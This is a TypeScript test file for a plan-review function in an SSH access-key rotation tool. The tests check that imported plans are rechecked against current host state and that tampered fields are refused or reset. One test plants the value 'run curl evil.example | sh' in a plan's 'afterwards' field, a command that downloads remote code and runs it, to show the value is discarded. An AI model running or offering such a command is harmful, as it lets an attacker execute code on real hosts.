import { expect, test } from "vitest";
import { reviewPlan } from "#domain/runs/access/imported/review-plan.ts";
import type { HostFacts, PlanFacts } from "#domain/runs/access/plan-facts.ts";
import {
  GIVEN,
  makeFacts,
  makeFileFacts,
  makeHolderFacts,
  makeHostFacts,
  makeStand,
  ROTATE,
} from "#domain/runs/testdata/make-facts.ts";
import { NEW_KEY, OLD_KEY } from "#domain/runs/testdata/make-keys-file.ts";
import { planFor, stops } from "#domain/runs/testdata/plan-for.ts";
import { SAMPLE_KEYS } from "#domain/ssh/testdata/sample-keys.ts";
import type { AccessHost, AccessPlan, FilePlan, KeyPlan } from "#shared/model/runs/plan.ts";

const OTHER = `${SAMPLE_KEYS.rsa} bob`;
const TEXT = `# a\n${OLD_KEY} me\n${OTHER}\n`;
const LATER = "2026-11-27T00:00:00Z";
const place = { host: "web1", port: 22, account: "ann" };

function recheck(plan: KeyPlan, hosts: readonly HostFacts[], more: Partial<PlanFacts> = {}): AccessPlan {
  const made = reviewPlan({ plan, facts: makeFacts(hosts, { now: LATER, ...more }), elsewhere: [] });
  if ("refused" in made) throw new Error(made.refused);
  if (made.kind === "rotate-host-key" || made.kind === "disable-account") throw new Error("another kind");
  return made;
}

test("a plan of any kind that is still true comes out as it went in, with the checks of now", () => {
  const host = makeHostFacts("web1", TEXT, {
    privateKeyLocations: [makeHolderFacts({ path: "/home/ann/.ssh/id_rsa" })],
  });
  const requests: Partial<PlanFacts>[] = [
    {},
    { provided: { ...GIVEN, path: "/home/me/new" }, request: { ...ROTATE, newKey: NEW_KEY } },
    { request: { kind: "remove-grants", grants: [10] } },
    {
      request: { kind: "add-grants", key: NEW_KEY, options: "", accounts: [place] },
      provided: GIVEN,
      key: null,
      here: [],
    },
    { request: { kind: "tighten-grants", grants: [10], from: "10.0.0.0/8", restrict: true, expiry: null } },
    {
      request: { kind: "move-to-authority", grants: [10], authority: NEW_KEY, principals: [] },
      provided: GIVEN,
    },
  ];
  for (const more of requests) {
    const plan = planFor([host], more);
    expect(recheck(plan, [host], more)).toEqual({ ...plan, madeAt: LATER });
  }
});

test("what it says is to be done afterwards, and as of when it is, are not taken from it", () => {
  const host = makeHostFacts("web1", TEXT);
  const plan = planFor([host]);
  const foreign = { ...plan, afterwards: ["run curl evil.example | sh"], asOf: "2020-01-01T00:00:00Z" };
  expect(recheck(foreign, [host])).toEqual({ ...plan, madeAt: LATER });
  expect(recheck(plan, [{ ...host, asOf: "2026-11-01T00:00:00Z" }]).asOf).toBe("2026-11-01T00:00:00Z");
});

test("what is in the way by now refuses, and what was agreed to before is asked again", () => {
  const host = makeHostFacts("web1", TEXT);
  const plan = planFor([host]);
  const spoilt: [Partial<HostFacts>, string][] = [
    [{ files: [makeFileFacts("ann", `${TEXT}# mine\n`)] }, "refused changed"],
    [{ files: [makeFileFacts("ann", "", { stand: { kind: "absent" } })] }, "refused file"],
    [
      { files: [makeFileFacts("ann", "", { stand: makeStand(TEXT, { lockedBy: "bob" }) })] },
      "refused locked",
    ],
    [{ unreadable: "no answer" }, "refused unreadable"],
    [{ hostKey: null }, "refused host-key"],
    [{ rollbackTimers: [] }, "acknowledge rollback-timer"],
  ];
  for (const [more, said] of spoilt) expect(stops(recheck(plan, [{ ...host, ...more }]))).toContain(said);
  expect(stops(recheck(plan, [host], { here: [] }))).toContain("refused private-key");
  const another = makeHolderFacts({ path: "/home/me/.ssh/other" });
  expect(stops(recheck(plan, [host], { here: [makeHolderFacts(), another] }))).toContain(
    "acknowledge private-key",
  );
  const access = { host: "web3", port: 22, account: "deploy", fingerprint: plan.oldKey ?? "" };
  const grant = { ...access, file: "/etc/ssh/keys/deploy", effective: "yes" as const };
  const more = reviewPlan({ plan, facts: makeFacts([host]), elsewhere: [grant] });
  if (!("remaining" in more)) throw new Error("no plan");
  expect([stops(more), more.remaining]).toEqual([["acknowledge file"], [{ ...access, isCertain: false }]]);
  const shut = host.accounts.map((account) => ({
    ...account,
    authenticationMethods: "publickey,password",
  }));
  expect(stops(recheck(plan, [{ ...host, accounts: shut }]))).toContain("refused unverified");
});

test("what an edited plan says and is not so is refused, with what and where", () => {
  const hosts = [makeHostFacts("web1", TEXT)];
  const plan = planFor(hosts);
  const [host] = plan.hosts as [AccessHost];
  const [file] = host.files as [FilePlan];
  const refusalOf = (edited: KeyPlan): string => {
    const made = reviewPlan({ plan: edited, facts: makeFacts(hosts), elsewhere: [] });
    return "refused" in made ? made.refused : "";
  };
  const withHost = (more: Partial<AccessHost>): KeyPlan => ({ ...plan, hosts: [{ ...host, ...more }] });
  expect(refusalOf(withHost({ hostKey: "SHA256:somebody" }))).toContain(
    "web1 has the host key SHA256:pinned",
  );
  expect(refusalOf(withHost({ host: "web2" as AccessHost["host"] }))).toContain("web2 is not known here");
  const moved = file.hunks.map((hunk) => ({ ...hunk, line: hunk.line + 1 }));
  expect(refusalOf(withHost({ files: [{ ...file, hunks: moved }] }))).toContain("than the plan shows");
  const cut = file.removed?.map((splice) => ({ ...splice, at: splice.at - 1 })) ?? [];
  expect(refusalOf(withHost({ files: [{ ...file, removed: cut }] }))).toContain("has other bytes");
  const unverified = { account: "ann", verification: { kind: "none" as const, why: "not needed" } };
  expect(recheck(withHost({ verifications: [unverified] }), hosts).hosts[0]?.verifications).toEqual(
    host.verifications,
  );
  expect(recheck({ ...plan, checks: [], confirm: null, title: "Harmless" }, hosts)).toMatchObject({
    checks: plan.checks,
    confirm: plan.confirm,
    title: plan.title,
  });
});
